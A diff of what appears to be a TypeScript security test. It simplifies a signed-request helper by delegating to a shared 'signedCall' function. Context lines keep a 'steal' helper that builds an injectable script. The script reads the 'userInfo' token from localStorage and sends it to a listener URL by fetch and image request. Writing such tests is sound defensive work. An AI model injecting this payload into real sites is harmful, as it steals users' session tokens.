@@ -7,7 +7,8 @@
  */
 import assert from 'node:assert/strict';
 import { execFile } from 'node:child_process';
-import { createHash, createHmac, randomBytes } from 'node:crypto';
+import { createHmac, randomBytes } from 'node:crypto';
+import { type Answer, signedCall } from '../support/api';
 import http from 'node:http';
 import type { AddressInfo } from 'node:net';
 import path from 'node:path';
@@ -57,16 +58,9 @@ const steal = (listener: string) =>
   `var t='';try{t=localStorage.getItem('userInfo')}catch(e){t='blocked'}` +
   `fetch('${listener}/steal?t='+encodeURIComponent(t)).catch(function(){});new Image().src='${listener}/img?t='+encodeURIComponent(t);`;
 
-/** A call signed as the SDK signs it (spec §7 with the nonce, bound to method and path), with a given token. */
-async function signedGet<T = unknown>(baseUrl: string, path: string, token: string): Promise<{ code: number; msg: string; data: T }> {
-  const config = (await (await fetch(`${baseUrl}/api/runtime/config`)).json()) as { data: { appId: string; appSecret: string } };
-  const fields: Record<string, string> = { timestamp: String(Date.now()), app_id: config.data.appId, token, nonce: randomBytes(16).toString('hex') };
-  const canonical = Object.keys(fields)
-    .sort()
-    .map((key) => `${encodeURIComponent(key)}=${encodeURIComponent(fields[key] ?? '')}`)
-    .join('&');
-  fields.sign = createHash('md5').update(`GET\n${path}\n${canonical}${config.data.appSecret}`).digest('hex');
-  return (await (await fetch(`${baseUrl}${path}?${new URLSearchParams(fields)}`)).json()) as { code: number; msg: string; data: T };
+/** A signed GET with a given token (the one a logged-out session had, say). */
+function signedGet<T = unknown>(baseUrl: string, path: string, token: string): Promise<Answer<T>> {
+  return signedCall<T>(baseUrl, token, 'GET', path, {});
 }
 
 interface UploadCredentials {
